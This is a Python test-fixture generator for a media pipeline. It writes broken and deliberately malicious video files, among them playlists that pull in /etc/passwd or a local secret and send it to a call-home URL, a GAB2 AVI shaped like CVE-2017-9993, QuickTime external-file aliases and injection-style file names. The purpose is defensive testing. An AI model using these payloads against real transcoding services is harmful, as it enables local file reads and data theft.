"""Strangers' files, made on purpose: odd, broken and malicious media by ffmpeg's lavfi and by byte surgery.

`write_hostile(FOLDER, count=, seed=)` writes every fixed kind once, then truncations at every tenth and random damage
until there are `count` files. What a malicious file points at lies beside FOLDER, never in it. Each file says which
outcomes are acceptable: "kept" or reasons out of pipelines.errors.REASONS.
"""

from __future__ import annotations

import itertools
import struct
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import numpy as np

from pipelines.media import ffmpeg_path

SECRET = b"root-of-all-secrets-7f3a"

KEPT = frozenset({"kept"})
SHORT = frozenset({"too_short"})
REFUSED = frozenset({"forbidden_format", "unreadable"})
NOT_MEDIA = frozenset({"unreadable"})
NO_PICTURES = frozenset({"no_video"})
LARGE = frozenset({"too_large"})
EMPTY = frozenset({"decode_failed", "no_video", "unreadable"})
HURT = frozenset({"kept", "too_short", "decode_failed", "unreadable", "no_video"})
ANY = HURT | {"forbidden_format", "too_large", "limit_exceeded", "timeout"}

BARS = "testsrc2=size={size}:rate={fps}:duration={seconds}"
X264 = ("-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p")


@dataclass(frozen=True, slots=True)
class HostileFile:
    path: Path
    kind: str
    allowed: frozenset[str]


@dataclass(frozen=True, slots=True)
class Targets:
    """What malicious files try to read."""

    video: Path
    text: Path
    url: str


def run(*args: str) -> None:
    command = [ffmpeg_path(), "-hide_banner", "-loglevel", "error", "-nostdin", "-y", *args]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, (args, done.stderr)


def video(
    path: Path,
    *extra: str,
    seconds: float = 3.0,
    size: str = "96x64",
    fps: str = "25",
    sound: bool = False,
    source: str = BARS,
    codec: tuple[str, ...] = X264,
) -> None:
    heard = ("-f", "lavfi", "-i", f"sine=frequency=440:duration={seconds}") if sound else ()
    shown = source.format(size=size, fps=fps, seconds=seconds)
    plain = ("-threads", "1", "-fflags", "+bitexact")  # no random ids in headers
    run("-f", "lavfi", "-i", shown, *heard, *plain, *codec, *extra, str(path))


Make = Callable[[Path, Targets], None]


def _write(path: Path, targets: Targets, *, data: bytes) -> None:
    path.write_bytes(data)


def _text(path: Path, targets: Targets, *, text: str) -> None:
    names = {"video": targets.video, "text": targets.text, "url": targets.url}
    for name, value in names.items():
        text = text.replace(f"<{name}>", str(value))
    path.write_text(text)


def _video(path: Path, targets: Targets, *, extra: tuple[str, ...] = (), **options: object) -> None:
    video(path, *extra, **options)  # type: ignore[arg-type]


def _vfr(path: Path, targets: Targets) -> None:
    slow = BARS.format(size="96x64", fps=5, seconds=2)
    fast = BARS.format(size="96x64", fps=60, seconds=2)
    joined = "[0:v][1:v]concat=n=2[v]"
    inputs = ("-f", "lavfi", "-i", slow, "-f", "lavfi", "-i", fast)
    run(*inputs, "-filter_complex", joined, "-map", "[v]", "-fps_mode", "vfr", *X264, str(path))


def _edit_list(path: Path, targets: Targets) -> None:
    """Stream copy from the middle of a group of pictures: the container says from where to show it."""
    whole = path.with_name(path.name + ".whole.mp4")
    video(whole, "-g", "250", seconds=5, sound=True)
    run("-ss", "1.7", "-i", str(whole), "-c", "copy", str(path))
    whole.unlink()


def _rotated(path: Path, targets: Targets) -> None:
    upright = path.with_name(path.name + ".upright.mp4")
    video(upright)
    run("-display_rotation:v:0", "90", "-i", str(upright), "-c", "copy", str(path))
    upright.unlink()


def _cover(path: Path, targets: Targets) -> None:
    picture = path.with_name(path.name + ".png")
    run("-f", "lavfi", "-i", "testsrc2=size=64x64:rate=1:duration=1", "-frames:v", "1", str(picture))
    both = ("-f", "lavfi", "-i", "sine=duration=3", "-i", str(picture), "-map", "0", "-map", "1")
    run(*both, "-c:v", "copy", "-disposition:v", "attached_pic", str(path))
    picture.unlink()


def _still(path: Path, targets: Targets) -> None:
    picture = path.with_name("still.tmp.png")  # ffmpeg would fill in the pattern
    run("-f", "lavfi", "-i", "testsrc2=size=64x64:rate=1:duration=1", "-frames:v", "1", str(picture))
    picture.rename(path)


def _attachment(path: Path, targets: Targets) -> None:
    attached = path.with_name(path.name + ".ttf")
    attached.write_text(f"#EXTM3U\n#EXTINF:2,\n{targets.url}/attachment.ts\n")
    video(path, "-attach", str(attached), "-metadata:s:t", "mimetype=application/x-truetype-font", "-f", "matroska")
    attached.unlink()


def _playlist_subtitles(path: Path, targets: Targets) -> None:
    """A text track whose lines are a playlist."""
    track = path.with_name(path.name + ".srt")
    track.write_text(
        f"1\n00:00:00,000 --> 00:00:02,000\n#EXTM3U\n#EXTINF:1,\n{targets.url}/cue.ts\nfile:///etc/passwd\n"
    )
    bars = ("-f", "lavfi", "-i", BARS.format(size="96x64", fps=25, seconds=3))
    run(*bars, "-i", str(track), *X264, "-c:s", "srt", "-f", "matroska", str(path))
    track.unlink()


def _size_change(path: Path, targets: Targets, *, size: str = "160x90") -> None:
    pieces = [path.with_name(f"{path.name}.{i}.ts") for i in range(2)]
    video(pieces[0], seconds=2)
    video(pieces[1], "-output_ts_offset", "2", seconds=2, size=size)
    path.write_bytes(b"".join(piece.read_bytes() for piece in pieces))
    for piece in pieces:
        piece.unlink()


def _many_streams(path: Path, targets: Targets) -> None:
    inputs = ("-f", "lavfi", "-i", BARS.format(size="32x32", fps=5, seconds=2), "-f", "lavfi", "-i", "sine=duration=2")
    maps = ("-map", "0:v", *("-map", "1:a") * 80)
    run(*inputs, *maps, *X264, "-c:a", "pcm_s16le", "-f", "matroska", str(path))


def _avi_with_playlist(path: Path, targets: Targets, *, line: str) -> None:
    """AVI whose text stream is a GAB2 block that holds a playlist (the shape of CVE-2017-9993)."""

    def box(name: bytes, data: bytes) -> bytes:
        return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)

    def stream(kind: bytes, form: bytes, num: int) -> bytes:
        head = kind + struct.pack("<4sIHHIIIIIIIIHHHH", b"\0" * 4, 0, 0, 0, 0, 1, 20, 0, num, 0, 0, 0, 0, 0, 16, 16)
        return box(b"LIST", b"strl" + box(b"strh", head) + box(b"strf", form))

    num, picture = 40, bytes(range(256)) * 3
    bitmap = struct.pack("<IiiHHIIiiII", 40, 16, 16, 1, 24, 0, len(picture), 0, 0, 0, 0)
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n{line}\n#EXT-X-ENDLIST\n"
    for name, value in {"text": targets.text, "url": targets.url, "video": targets.video}.items():
        playlist = playlist.replace(f"<{name}>", str(value))
    subtitle = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"s\0" + struct.pack("<HI", 4, len(playlist)) + playlist.encode()
    header = struct.pack("<14I", 50_000, 0, 0, 0x10, num, 0, 2, 0, 16, 16, 0, 0, 0, 0)
    lists = box(b"LIST", b"hdrl" + box(b"avih", header) + stream(b"vids", bitmap, num) + stream(b"txts", b"", 1))
    frames = box(b"01tx", subtitle) + box(b"00db", picture) * num
    path.write_bytes(box(b"RIFF", b"AVI " + lists + box(b"LIST", b"movi" + frames)))


def _external_reference(path: Path, targets: Targets, *, to: str) -> None:
    """QuickTime whose samples lie in another file, named by an alias; its own hold nothing.

    The other file can be one with the very samples, so a reader that follows the alias sees a sound video.
    """
    whole = targets.video.with_name("external.mov")
    video(whole, "-f", "mov")
    data = whole.read_bytes()
    own = data.index(b"mdat") + 4  # lies before moov, so that offsets in both files are the same
    data = data[:own] + bytes(data.index(b"moov") - 4 - own) + data[data.index(b"moov") - 4 :]
    where = {"video": str(whole), "text": str(targets.text), "passwd": "/etc/passwd"}[to].encode()
    where += b"\0" * (len(where) % 2)
    alias = b"\0" * 10 + b"\4disk" + b"\0" * 23 + b"\0" * 12 + b"\4file" + b"\0" * 59 + b"\0" * 16
    alias += b"\0" * 20  # directory levels 0 and 0
    alias += struct.pack(">HH", 2, len(where)) + where + struct.pack(">hH", -1, 0)
    dref = b"\0" * 4 + struct.pack(">I", 1) + struct.pack(">I", len(alias) + 12) + b"alis" + b"\0" * 4 + alias
    path.write_bytes(with_atom(data, (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"), dref))


def with_atom(data: bytes, where: tuple[bytes, ...], content: bytes) -> bytes:
    """The same file with another content in one atom; sizes of the atoms around it follow."""
    out, at = [], 0
    done = False
    while at + 8 <= len(data):
        size, name = struct.unpack(">I4s", data[at : at + 8])
        size = size if 8 <= size <= len(data) - at else len(data) - at
        body = data[at + 8 : at + size]
        if name == where[0] and not done:
            body, done = (content if len(where) == 1 else with_atom(body, where[1:], content)), True
        out.append(struct.pack(">I4s", len(body) + 8, name) + body)
        at += size
    return b"".join(out) + data[at:]


def _scribbled(
    path: Path, targets: Targets, *, atom: bytes, at: int, value: bytes, extra: tuple[str, ...] = ()
) -> None:
    """Bytes of a header overwritten, `at` bytes behind the name of the first such atom."""
    video(path, *extra, sound=True)
    data = bytearray(path.read_bytes())
    place = data.index(atom) + len(atom) + at
    data[place : place + len(value)] = value
    path.write_bytes(data)


def _cut_to(path: Path, targets: Targets, *, share: float, extra: tuple[str, ...]) -> None:
    video(path, *extra, sound=True)
    path.write_bytes(path.read_bytes()[: int(path.stat().st_size * share)])


def _html(path: Path, targets: Targets) -> None:
    path.write_text("<!DOCTYPE html><html><head><title>404</title></head><body>Not found</body></html>" * 20)


def _odd_name(path: Path, targets: Targets, *, name: str) -> None:
    made = path.with_name("odd-name.tmp.mp4")
    video(made)
    made.rename(path.with_name(name))


HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:2,\n{}\n#EXT-X-ENDLIST\n"
CONCAT = "ffconcat version 1.0\nfile '{}'\n"
DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" '
    'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="1" bandwidth="1000"><BaseURL>{}</BaseURL></Representation></AdaptationSet></Period></MPD>'
)
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
FAST = ("-movflags", "+faststart")
HEVC = ("-c:v", "libx265", "-preset", "ultrafast", "-x265-params", "log-level=none")
HDR = (*HEVC, "-pix_fmt", "yuv420p10le", "-color_trc", "smpte2084", "-colorspace", "bt2020nc")


def fixed_kinds() -> Iterator[tuple[str, str, Make, frozenset[str]]]:
    """(kind, file name, maker, acceptable outcomes), the most different first."""
    yield "html", "page.mp4", _html, NOT_MEDIA
    yield "empty", "empty.mp4", partial(_write, data=b""), NOT_MEDIA
    yield "one byte", "byte.mkv", partial(_write, data=b"\0"), NOT_MEDIA
    yield "variable frame rate", "vfr.mkv", _vfr, KEPT
    yield "start offset", "offset.mkv", partial(_video, extra=("-output_ts_offset", "7.3"), sound=True), KEPT
    yield "edit list", "edit-list.mp4", _edit_list, KEPT
    yield "rotation", "rotated.mp4", _rotated, KEPT
    yield "cover art only", "cover.mp3", _cover, NO_PICTURES
    audio_only = ("-f", "lavfi", "-i", "sine=duration=3", "-c:a", "aac")
    yield "audio only", "audio.mp4", lambda path, _: run(*audio_only, str(path)), NO_PICTURES
    yield "video only", "silent.mp4", _video, KEPT
    yield "pcm in mkv", "pcm.mkv", partial(_video, extra=("-c:a", "pcm_s16le"), sound=True), KEPT
    yield "1 fps", "one-fps.mp4", partial(_video, fps="1", seconds=4), KEPT
    yield "240 fps", "fast.mp4", partial(_video, fps="240"), KEPT
    yield "odd size", "odd.mkv", partial(_video, size="97x63", codec=("-c:v", "ffv1")), KEPT
    yield "2x2 pixels", "tiny.mkv", partial(_video, size="2x2", codec=("-c:v", "ffv1")), KEPT
    yield "extreme aspect", "strip.mkv", partial(_video, size="2048x4", codec=("-c:v", "ffv1")), HURT
    yield "hdr 10 bit", "hdr.mp4", partial(_video, codec=HDR), KEPT
    yield "zero frames", "zero.mp4", partial(_scribbled, atom=b"stsz", at=8, value=b"\0" * 4), EMPTY | SHORT
    yield "one frame", "one-frame.mp4", partial(_video, extra=("-frames:v", "1")), SHORT
    yield "size changes", "size-change.ts", _size_change, KEPT
    yield "grows too large", "grows.ts", partial(_size_change, size="4096x2304"), HURT - {"no_video"}
    yield "too many streams", "streams.mkv", _many_streams, LARGE
    yield (
        "interlaced mpeg2",
        "interlaced.mpg",
        partial(_video, codec=("-c:v", "mpeg2video", "-flags", "+ildct+ilme")),
        KEPT,
    )
    yield "gif", "moving.gif", partial(_video, fps="10", codec=()), KEPT
    yield "subtitle attachment", "attachment.mkv", _attachment, KEPT
    yield "playlist as subtitles", "cues.mkv", _playlist_subtitles, KEPT
    for to in ("video", "text", "passwd"):
        yield f"external reference to {to}", f"external-{to}.mov", partial(_external_reference, to=to), EMPTY
    for what, line in {
        "file": "file:///etc/passwd",
        "secret": "<text>",
        "url": "<url>/gab2.ts",
        "video": "<video>",
    }.items():
        yield f"gab2 playlist of {what}", f"gab2-{what}.avi", partial(_avi_with_playlist, line=line), HURT
    playlists = {
        "hls file": ("m3u8", HLS.format("<video>")),
        "hls url": ("m3u8", HLS.format("<url>/hls.ts")),
        "hls passwd": ("m3u8", HLS.format("file:///etc/passwd")),
        "hls concat": ("m3u8", HLS.format("concat:<url>/leak?|file:///etc/passwd")),
        "hls key": ("m3u8", HLS.format('#EXT-X-KEY:METHOD=AES-128,URI="<url>/key"\n<video>')),
        "ffconcat file": ("ffconcat", CONCAT.format("<video>")),
        "ffconcat url": ("ffconcat", CONCAT.format("<url>/concat.ts")),
        "ffconcat passwd": ("ffconcat", CONCAT.format("/etc/passwd")),
        "dash url": ("mpd", DASH.format("<url>/dash.mp4")),
        "dash file": ("mpd", DASH.format("file://<video>")),
        "sdp": ("sdp", SDP),
    }
    for kind, (suffix, text) in playlists.items():
        name = kind.replace(" ", "-")
        yield kind, f"{name}.{suffix}", partial(_text, text=text), REFUSED
        yield f"{kind} as mp4", f"{name}-{suffix}.mp4", partial(_text, text=text), REFUSED
    yield "png as mp4", "still.mp4", _still, REFUSED
    yield "image pattern", "frame-%03d.png.mp4", _still, REFUSED
    yield "subrip as mp4", "words.mp4", partial(_text, text="1\n00:00:00,000 --> 00:00:02,000\nhello\n"), REFUSED
    for name in ("http:evil.mp4", "pipe:0.mp4", "-i.mp4", "a|b 'c' [d],e;f=%d.mp4", "line\nbreak.mp4"):
        yield f"name {name!r}", name, partial(_odd_name, name=name), KEPT
    yield from _absurd_headers()


def _absurd_headers() -> Iterator[tuple[str, str, Make, frozenset[str]]]:
    most = b"\xff\xff\xff\xff"
    scribbles: dict[str, tuple[bytes, int, bytes, frozenset[str]]] = {
        "movie duration": (b"mvhd", 16, b"\x7f\xff\xff\xff", HURT | LARGE),
        "track duration": (b"tkhd", 20, most, HURT | LARGE),
        "media duration": (b"mdhd", 16, most, HURT | LARGE),
        "media timescale 0": (b"mdhd", 12, b"\0" * 4, HURT | LARGE),
        "media timescale 1": (b"mdhd", 12, b"\0\0\0\1", HURT | LARGE),
        "picture size": (b"avc1", 24, most, HURT | LARGE),
        "shown size": (b"tkhd", 76, most + most, HURT | LARGE),
        "number of samples": (b"stsz", 8, most, HURT | {"limit_exceeded"}),
        "sample size": (b"stsz", 4, most, HURT | {"limit_exceeded"}),
        "number of times": (b"stts", 4, most, HURT | {"limit_exceeded"}),
        "time step": (b"stts", 12, b"\x7f\xff\xff\xff", HURT | LARGE),
        "number of chunks": (b"stco", 4, most, HURT | {"limit_exceeded"}),
        "chunk offset": (b"stco", 8, b"\x7f\xff\xff\xff", HURT),
        "edit from far": (b"elst", 12, b"\x7f\xff\xff\xff", HURT | LARGE),
        "edit for long": (b"elst", 8, b"\x7f\xff\xff\xff", HURT | LARGE),
        "codec": (b"stsd", 12, b"zzzz", HURT),
        "parameter sets": (b"avcC", 8, b"\xff" * 12, HURT | LARGE),
        "sample rate": (b"mp4a", 22, most, HURT | LARGE),
    }
    for what, (atom, at, value, allowed) in scribbles.items():
        make = partial(_scribbled, atom=atom, at=at, value=value)
        yield f"absurd {what}", f"absurd-{what.replace(' ', '-')}.mp4", make, allowed
    ebml = {"duration": b"\x44\x89", "width": b"\xb0\x82", "timescale": b"\x2a\xd7\xb1"}
    for what, element in ebml.items():
        make = partial(_scribbled, atom=element, at=1, value=b"\x7f\xef\xff")
        yield f"absurd matroska {what}", f"absurd-{what}.mkv", make, HURT | LARGE


BASES: dict[str, tuple[str, tuple[str, ...]]] = {
    "fast": ("mp4", FAST),
    "slow": ("mp4", ()),
    "fragments": ("mp4", ("-movflags", "+frag_keyframe+empty_moov", "-g", "12")),
    "matroska": ("mkv", ()),
    "stream": ("ts", ()),
    "flash": ("flv", ("-ar", "44100")),
    "avi": ("avi", ("-c:v", "mpeg4", "-c:a", "mp3")),
    "webm": ("webm", ("-c:v", "libvpx", "-c:a", "libopus", "-deadline", "realtime", "-cpu-used", "8")),
}


def flip_bits(data: bytes, rng: np.random.Generator) -> bytes:
    """One to 256 bits, anywhere or in the headers only."""
    out = np.frombuffer(data, np.uint8).copy()
    num, reach = 2 ** int(rng.integers(9)), int(rng.choice([len(out), min(len(out), 2048)]))
    where = rng.integers(reach, size=num)
    np.bitwise_xor.at(out, where, (1 << rng.integers(8, size=num)).astype(np.uint8))
    return out.tobytes()


def overwrite(data: bytes, rng: np.random.Generator) -> bytes:
    """A stretch of noise, zeros or ones."""
    length = min(len(data), 2 ** int(rng.integers(2, 12)))
    at = int(rng.integers(len(data) - length + 1))
    noise = [rng.bytes(length), b"\0" * length, b"\xff" * length][int(rng.integers(3))]
    return data[:at] + noise + data[at + length :]


ATOMS = (b"ftyp", b"moov", b"mvhd", b"trak", b"tkhd", b"mdia", b"mdhd", b"hdlr", b"minf", b"stbl", b"stsd", b"avc1")
ATOMS += (b"avcC", b"mp4a", b"esds", b"stts", b"ctts", b"stsc", b"stsz", b"stco", b"edts", b"elst", b"mdat", b"stss")


def swap_atoms(data: bytes, rng: np.random.Generator) -> bytes:
    """Two names of atoms (or, in other containers, two stretches of eight bytes) change places."""
    places = [place for name in ATOMS if (place := data.find(name)) >= 0]
    width = 4
    if len(places) < 2:
        places, width = [int(place) for place in rng.integers(max(1, len(data) - 8), size=8)], 8
    first, second = sorted(int(place) for place in rng.choice(places, 2, replace=False))
    if second - first < width:
        return data
    a, b = data[first : first + width], data[second : second + width]
    return data[:first] + b + data[first + width : second] + a + data[second + width :]


def rename_atom(data: bytes, rng: np.random.Generator) -> bytes:
    places = [place for name in ATOMS if (place := data.find(name)) >= 0] or [0]
    at = int(rng.choice(places))
    return data[:at] + [b"free", b"skip", b"wide", rng.bytes(4)][int(rng.integers(4))] + data[at + 4 :]


def resize_atom(data: bytes, rng: np.random.Generator) -> bytes:
    places = [place for name in ATOMS if (place := data.find(name)) >= 4] or [4]
    at = int(rng.choice(places)) - 4
    size = [0, 1, 7, 8, 0x7FFFFFFF, 0xFFFFFFFF, int(rng.integers(2**32))][int(rng.integers(7))]
    return data[:at] + struct.pack(">I", size) + data[at + 4 :]


def drop_stretch(data: bytes, rng: np.random.Generator) -> bytes:
    length = int(rng.integers(1, max(2, len(data) // 4)))
    at = int(rng.integers(max(1, len(data) - length)))
    return data[:at] + data[at + length :]


def repeat_stretch(data: bytes, rng: np.random.Generator) -> bytes:
    length = int(rng.integers(1, max(2, len(data) // 4)))
    at = int(rng.integers(max(1, len(data) - length)))
    return data[: at + length] + data[at:]


MUTATIONS = (flip_bits, overwrite, swap_atoms, rename_atom, resize_atom, drop_stretch, repeat_stretch)


def write_hostile(folder: Path, *, count: int, seed: int, url: str = "http://127.0.0.1:9") -> list[HostileFile]:
    """Write `count` files into an empty or new `folder`, the same for the same seed.

    `url` is where malicious files call home. What they point at (a video, a text that holds SECRET) is written to
    FOLDER-targets beside the folder.
    """
    beside = folder.with_name(f"{folder.name}-targets")
    beside.mkdir(parents=True, exist_ok=True)
    folder.mkdir(parents=True, exist_ok=True)
    targets = Targets(beside / "target.ts", beside / "secret.txt", url)
    video(targets.video)
    targets.text.write_bytes(SECRET + b"\n")
    made = []
    for kind, name, make, allowed in itertools.islice(fixed_kinds(), count):
        make(folder / name, targets)
        made.append(HostileFile(folder / name, kind, allowed))
    rng = np.random.default_rng(seed)
    for number, (kind, suffix, data) in enumerate(_damaged(beside, count - len(made), rng)):
        path = folder / f"damaged-{number:04d}.{suffix}"
        path.write_bytes(data)
        made.append(HostileFile(path, kind, HURT if kind.startswith("truncated") else ANY))
    return made


def _damaged(folder: Path, count: int, rng: np.random.Generator) -> Iterator[tuple[str, str, bytes]]:
    """(kind, suffix, bytes): each base cut at every tenth, then each in turn damaged at random."""
    if count <= 0:
        return
    bases = {}
    for name, (suffix, extra) in BASES.items():
        path = folder / f"base-{name}.{suffix}"
        video(path, *extra, sound=True)
        bases[name] = path.read_bytes()
    cuts = ((name, tenth) for tenth in range(1, 10) for name in bases)
    for name, tenth in itertools.islice(cuts, count):
        yield f"truncated {name}", BASES[name][0], bases[name][: len(bases[name]) * tenth // 10]
    pairs = itertools.cycle(itertools.product(bases, MUTATIONS))
    for name, mutation in itertools.islice(pairs, max(0, count - 9 * len(bases))):
        yield f"{mutation.__name__} {name}", BASES[name][0], mutation(bases[name], rng)
